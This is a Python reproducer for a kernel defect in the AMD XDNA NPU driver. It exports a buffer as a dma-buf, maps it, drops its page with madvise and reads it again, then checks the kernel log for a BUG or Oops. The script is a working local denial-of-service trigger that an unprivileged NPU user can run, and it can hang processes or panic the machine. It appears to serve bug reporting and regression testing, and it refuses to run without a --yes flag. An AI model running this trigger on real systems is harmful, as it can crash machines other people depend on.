"""Dropping the pages of a mapped dma-buf and touching one again is a kernel BUG.

A buffer is exported, its dma-buf mapped, madvise(MADV_DONTNEED) called on the mapping, and a byte read.
Any user of the NPU can do it. The reader is left in the kernel with its locks, and no signal ends it; with
panic_on_oops the machine goes down.
"""

from __future__ import annotations

import argparse
import fcntl
import mmap
import os
import struct
import sys
import time


def call(fd: int, number: int, layout: str, *values: int, direction: int = 3) -> tuple[int, ...]:
    """One DRM ioctl; its argument as the kernel left it. OSError with the kernel's errno."""
    data = bytearray(struct.pack("<" + layout, *values))
    fcntl.ioctl(fd, direction << 30 | len(data) << 16 | ord("d") << 8 | number, data)
    return struct.unpack("<" + layout, data)


def create_bo(fd: int, kind: int, size: int, vaddr: int = 0) -> int:
    """AMDXDNA_CREATE_BO: 1 shared memory, 2 heap, 3 in the heap, 4 command. The handle."""
    return call(fd, 0x43, "QQQII", 0, vaddr, size, kind, 0)[4]


def export(fd: int, handle: int) -> int:
    """DRM_IOCTL_PRIME_HANDLE_TO_FD: a dma-buf of a buffer."""
    return call(fd, 0x2D, "IIi", handle, os.O_RDWR | os.O_CLOEXEC, -1)[2]


class KernelLog:
    """The kernel's messages from now on; none when they may not be read."""

    def __init__(self) -> None:
        try:
            self.fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
            os.lseek(self.fd, 0, os.SEEK_END)
        except OSError:
            self.fd = -1
            print("the kernel log cannot be read (not root): look for a BUG with dmesg yourself")

    def bug(self) -> str:
        """The first BUG or Oops since the start, or nothing."""
        while self.fd >= 0:
            try:
                text = os.read(self.fd, 8192).split(b";", 1)[-1].split(b"\n")[0].decode("utf-8", "replace")
            except BlockingIOError:
                break
            if "BUG" in text or "Oops" in text:
                return text
        return ""


def drop_and_read(node: str) -> None:
    """Write to the mapping, drop its page, read it: never back where the defect is."""
    fd = os.open(node, os.O_RDWR | os.O_CLOEXEC)
    memory = mmap.mmap(export(fd, create_bo(fd, 1, mmap.PAGESIZE)), mmap.PAGESIZE)
    memory[:5] = b"still"
    memory.madvise(mmap.MADV_DONTNEED)
    print("read again:", memory[:5], flush=True)


def show(node: str) -> str:
    """Drop and read in a child, as the reader may stay in the kernel for ever; see what became of it."""
    log = KernelLog()
    child = os.fork()
    if child == 0:
        try:
            drop_and_read(node)
        finally:
            os._exit(0)
    until = time.monotonic() + 10.0
    ended = status = 0
    while not ended and time.monotonic() < until:
        time.sleep(0.2)
        ended, status = os.waitpid(child, os.WNOHANG)
    bug = log.bug()
    if not ended:
        return f"{bug or 'a fault without end'}; the reader does not end"
    return bug or (f"the reader was killed by signal {os.WTERMSIG(status)}" if os.WIFSIGNALED(status) else "")


def main() -> int:
    """Say what will be done, do it, say what came of it. 0 as it should be, 1 the defect, 2 not run."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("--node", default="/dev/accel/accel0")
    parser.add_argument("--yes", action="store_true", help="do it although it may take the kernel down")
    options = parser.parse_args()
    print("drops a page of a mapped dma-buf and reads it; this can kill the kernel")
    if not options.yes:
        print("not done: this can make the machine unusable; add --yes on one you can reset")
        return 2
    found = show(options.node)
    print("DEFECT: " + found if found else "as it should be", flush=True)
    return 1 if found else 0


if __name__ == "__main__":
    sys.exit(main())
